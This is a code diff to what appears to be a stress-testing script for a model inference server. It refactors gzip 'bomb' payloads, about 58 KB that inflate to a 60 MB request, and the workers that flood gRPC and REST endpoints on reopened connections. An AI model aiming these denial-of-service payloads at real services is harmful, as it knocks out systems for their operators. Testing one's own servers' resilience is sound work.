@@ -38,6 +38,7 @@ MODEL = "mnist_cnn"
 INFER = "/inference.GRPCInferenceService/ModelInfer"
 _STATUS = {str(code.value[0]): code.name for code in grpc.StatusCode}
 IMAGE_VALUES = 28 * 28
+_BOMB_BYTES = 60 << 20  # what a gzip flood's request inflates to
 NO_OUTPUT = "no-such-output"
 DECLARED = 60 << 20  # what each unfinished body says it will be
 CHUNK, PACE_S = 16 << 10, 0.02  # each stream's body arrives at 16 KiB per 20 ms (0.8 MB/s)
@@ -170,17 +171,22 @@ def _sent(kind: str) -> tuple[pb.ModelInferRequest, bytes, dict[str, str]]:
 
 def _gzip_bomb() -> bytes:
     """60 MB of JSON whitespace in about 58 KB of gzip."""
-    return gzip.compress(b" " * (60 << 20), 9)
+    return gzip.compress(b" " * _BOMB_BYTES, 9)
 
 
-def _grpc_gzip_bombs(address: str, end: float, counts: Counter[str]) -> None:
-    """ModelInfer calls whose one message is 58 KB of gzip that inflate to a 60 MB request (of a
-    batch the model refuses), on a connection opened again when closed: sent as raw frames, the
-    message compressed once (a gRPC client would compress each call again)."""
+def _grpc_gzip_bomb() -> bytes:
+    """A ModelInfer message of 60 MB (a batch the model refuses) in about 58 KB of gzip."""
     request = pb.ModelInferRequest(model_name=MODEL)
-    request.inputs.add(name="image", datatype="FP32", shape=[(60 << 20) // 3136, 1, 28, 28])
-    request.raw_input_contents.append(bytes(60 << 20))
-    packed = gzip.compress(request.SerializeToString(), 9)
+    images = _BOMB_BYTES // (IMAGE_VALUES * 4)
+    request.inputs.add(name="image", datatype="FP32", shape=[images, 1, 28, 28])
+    request.raw_input_contents.append(bytes(images * IMAGE_VALUES * 4))
+    return gzip.compress(request.SerializeToString(), 9)
+
+
+def _grpc_gzip_bombs(address: str, end: float, counts: Counter[str], packed: bytes) -> None:
+    """ModelInfer calls whose one message is `packed` (_grpc_gzip_bomb), on a connection opened
+    again when closed: sent as raw frames, the message compressed once (a gRPC client would
+    compress each call again)."""
     while time.monotonic() < end:
         try:
             with RawH2(address) as flood:
@@ -207,7 +213,7 @@ def attack(kind: str, host: str, port: int, http_port: int, seconds: float) -> C
         workers = [*[partial(_grpc_uploads, grpc_address)] * CONNECTIONS,
                    *[partial(_rest_uploads, host, http_port)] * REST_CONNECTIONS]
     elif kind == "gzip":
-        workers = [*[partial(_grpc_gzip_bombs, grpc_address)] * 2,
+        workers = [*[partial(_grpc_gzip_bombs, grpc_address, packed=_grpc_gzip_bomb())] * 2,
                    *[partial(_rest_requests, host, http_port, body=_gzip_bomb(),
                              headers={"Content-Encoding": "gzip"}, kind=kind)] * 2]
     else:
